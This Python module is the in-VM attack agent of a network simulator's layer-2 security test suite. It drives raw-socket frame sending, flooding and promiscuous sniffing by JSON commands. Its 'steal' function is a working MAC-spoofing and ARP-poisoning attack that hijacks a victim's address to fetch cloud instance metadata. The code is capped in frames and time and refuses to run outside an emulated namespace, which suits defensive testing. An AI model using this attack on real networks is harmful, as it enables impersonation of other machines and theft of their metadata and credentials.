"""A hostile (or watching) program that runs *inside* a VM: the attacker of the L2 suite.

Started by :class:`l2attack.Agent` as ``python l2agent.py`` in a VM's namespace, it
reads one JSON command per line on stdin and answers each with one JSON line on stdout
(``sniff`` answers twice: ``{"ready": true}`` once its socket listens, then the count).
Frames are built with scapy and sent on ``eth0`` through a raw packet socket, as root in
a VM can. Every command is bounded in frames and time and the agent ends at EOF.

It refuses to run outside a netsim namespace (it sends raw frames).
"""

from __future__ import annotations

import json
import random
import select
import socket
import sys
import time

from netsim.kernel.safety import require_emulated_namespace
from netsim_imds.address import METADATA_ADDRESS

ETH_P_ALL = 0x0003
SOL_PACKET = 263
PACKET_ADD_MEMBERSHIP = 1
PACKET_MR_PROMISC = 1
MAX_FRAMES = 20_000   # per command: a flood stops by itself
MAX_SECONDS = 10.0    # per command
METADATA = METADATA_ADDRESS


def build(spec: dict) -> bytes:
    """One frame from a spec: ``{"kind": "arp"|"icmp"|"ethertype", "src", "dst", "tags": [[tpid,
    prio, vid], ...], ...}``; ``tags`` are 802.1Q/802.1ad headers, outermost first."""
    from scapy.layers.inet import ICMP, IP
    from scapy.layers.l2 import ARP, Dot1AD, Dot1Q, Ether
    from scapy.packet import Raw

    kind = spec["kind"]
    if kind == "arp":
        inner = ARP(op=spec["op"], hwsrc=spec["hwsrc"], psrc=spec["psrc"], hwdst=spec.get("hwdst", "00:00:00:00:00:00"),
                    pdst=spec["pdst"])
    elif kind == "icmp":
        inner = IP(src=spec["ip_src"], dst=spec["ip_dst"]) / ICMP(id=spec.get("icmp_id", 7)) / Raw(
            bytes.fromhex(spec.get("marker", "")))
    elif kind == "ethertype":
        inner = Raw(bytes.fromhex(spec["payload"]))
    else:
        raise ValueError(f"unknown frame kind {kind!r}")
    frame = Ether(src=spec["src"], dst=spec["dst"])
    for tpid, prio, vid in spec.get("tags", []):
        frame = frame / (Dot1AD if tpid == 0x88A8 else Dot1Q)(prio=prio, vlan=vid)
    data = bytes(frame / inner)
    if kind == "ethertype":  # a raw ethertype: patch the (innermost) type field
        at = 12 + 4 * len(spec.get("tags", []))
        data = data[:at] + int(spec["type"]).to_bytes(2, "big") + data[at + 2:]
    return data


def _socket(promisc: bool = False) -> socket.socket:
    sock = socket.socket(socket.AF_PACKET, socket.SOCK_RAW, socket.htons(ETH_P_ALL))
    sock.bind(("eth0", 0))
    if promisc:
        mreq = socket.if_nametoindex("eth0").to_bytes(4, sys.byteorder) + PACKET_MR_PROMISC.to_bytes(2, sys.byteorder)
        sock.setsockopt(SOL_PACKET, PACKET_ADD_MEMBERSHIP, mreq + bytes(10))
    return sock


def send(frames: list[dict], rounds: int = 1, gap: float = 0.0) -> dict:
    """Send every frame ``rounds`` times, ``gap`` seconds between rounds."""
    built = [build(f) for f in frames]
    sent = 0
    with _socket() as sock:
        for r in range(min(rounds, MAX_FRAMES // max(1, len(built)))):
            for data in built:
                sock.send(data)
                sent += 1
            if gap and r + 1 < rounds:
                time.sleep(gap)
    return {"sent": sent}


def flood(frames: list[dict], rate: float, seconds: float) -> dict:
    """Send the frames in turn at ``rate`` frames a second for ``seconds`` (bounded)."""
    built = [build(f) for f in frames]
    seconds = min(seconds, MAX_SECONDS)
    total = min(int(rate * seconds), MAX_FRAMES)
    sent = errors = 0
    start = time.monotonic()
    with _socket() as sock:
        for i in range(total):
            due = start + i / rate
            delay = due - time.monotonic()
            if delay > 0:
                time.sleep(delay)
            try:
                sock.send(built[i % len(built)])
                sent += 1
            except OSError:
                errors += 1
    return {"sent": sent, "errors": errors, "seconds": time.monotonic() - start}


def sniff(seconds: float, marker: str = "", dst: str = "", frames: list[dict] | None = None) -> dict:
    """Count received frames (promiscuously) that carry ``marker`` or are sent to ``dst``,
    by outer ethertype, while sending ``frames`` every 0.1 s; answers ``{"ready": true}``
    first."""
    want_marker, want_dst = bytes.fromhex(marker), bytes.fromhex(dst.replace(":", "")) if dst else b""
    built = [build(f) for f in frames or []]
    seen: dict[str, int] = {}
    with _socket(promisc=True) as sock:
        _answer({"ready": True})
        deadline = time.monotonic() + min(seconds, MAX_SECONDS)
        next_send = 0.0
        while (left := deadline - time.monotonic()) > 0:
            if built and time.monotonic() >= next_send:
                for data in built:
                    sock.send(data)
                next_send = time.monotonic() + 0.1
            if not select.select([sock], [], [], min(left, 0.1))[0]:
                continue
            data, addr = sock.recvfrom(65536)
            if addr[2] == socket.PACKET_OUTGOING:
                continue
            if (want_marker and want_marker in data) or (want_dst and data[:6] == want_dst):
                key = f"0x{int.from_bytes(data[12:14], 'big'):04x}"
                seen[key] = seen.get(key, 0) + 1
    return {"seen": seen, "total": sum(seen.values())}


def steal(victim_ip: str, victim_mac: str, own_mac: str, node_mac: str, timeout: float = 1.0,
          path: str = "/metadata/v1/InstanceInfo") -> dict:
    """Identity theft through the bridge's forwarding table, the attack of issue 9.

    Keep sending frames with the victim's source MAC (if the bridge learns from them, the
    victim's MAC moves to this port and the node's answers to the victim come here), and
    open TCP to the metadata server from the victim's address with this VM's own MAC,
    by hand: the kernel here drops frames for another MAC, so it never answers them.
    Returns whether a SYN-ACK came back and whatever HTTP answer arrived.
    """
    from scapy.layers.inet import ICMP, IP, TCP
    from scapy.layers.l2 import ARP, Ether

    poison = [bytes(Ether(src=victim_mac, dst=node_mac) / IP(src=victim_ip, dst=METADATA) / ICMP()),
              bytes(Ether(src=victim_mac, dst="ff:ff:ff:ff:ff:ff") / ARP(op=1, hwsrc=victim_mac, psrc=victim_ip,
                                                                          pdst=METADATA))]
    sport, seq = random.randint(20000, 60000), random.randint(0, 2**31)
    base = Ether(src=own_mac, dst=node_mac) / IP(src=victim_ip, dst=METADATA)
    request = (f"GET {path} HTTP/1.1\r\nHost: {METADATA}\r\nConnection: close\r\n\r\n").encode()
    synack, answer, acked = False, b"", 0
    with _socket(promisc=True) as sock:
        for data in poison * 3:
            sock.send(data)
        sock.send(bytes(base / TCP(sport=sport, dport=80, flags="S", seq=seq)))
        deadline = time.monotonic() + min(timeout, MAX_SECONDS)
        next_poison = time.monotonic() + 0.05
        while (left := deadline - time.monotonic()) > 0:
            if time.monotonic() >= next_poison:
                for data in poison:
                    sock.send(data)
                next_poison = time.monotonic() + 0.05
            if not select.select([sock], [], [], min(left, 0.05))[0]:
                continue
            data, addr = sock.recvfrom(65536)
            if addr[2] == socket.PACKET_OUTGOING:
                continue
            pkt = Ether(data)
            if TCP not in pkt or pkt[IP].dst != victim_ip or pkt[TCP].sport != 80 or pkt[TCP].dport != sport:
                continue
            tcp = pkt[TCP]
            if tcp.flags.S and tcp.flags.A and not synack:
                synack, acked = True, tcp.seq + 1
                sock.send(bytes(base / TCP(sport=sport, dport=80, flags="PA", seq=seq + 1, ack=acked) / request))
                continue
            payload = bytes(tcp.payload)
            if payload and tcp.seq == acked:
                answer += payload
                acked += len(payload)
            if payload or tcp.flags.F:
                acked += 1 if tcp.flags.F else 0
                sock.send(bytes(base / TCP(sport=sport, dport=80, flags="A", seq=seq + 1 + len(request), ack=acked)))
            if tcp.flags.F or tcp.flags.R:
                break
    return {"synack": synack, "answer": answer.decode(errors="replace")}


OPS = {"send": send, "flood": flood, "sniff": sniff, "steal": steal, "build": lambda spec: {"hex": build(spec).hex()}}


def _answer(obj: dict) -> None:
    sys.stdout.write(json.dumps(obj) + "\n")
    sys.stdout.flush()


def main() -> int:
    require_emulated_namespace("the L2 attack agent")
    for line in sys.stdin:
        if not line.strip():
            continue
        cmd = json.loads(line)
        op = cmd.pop("op")
        if op == "quit":
            break
        try:
            _answer(OPS[op](**cmd))
        except Exception as exc:  # reported to the harness, which fails the test with it
            _answer({"error": f"{type(exc).__name__}: {exc}"})
    return 0


if __name__ == "__main__":
    sys.exit(main())
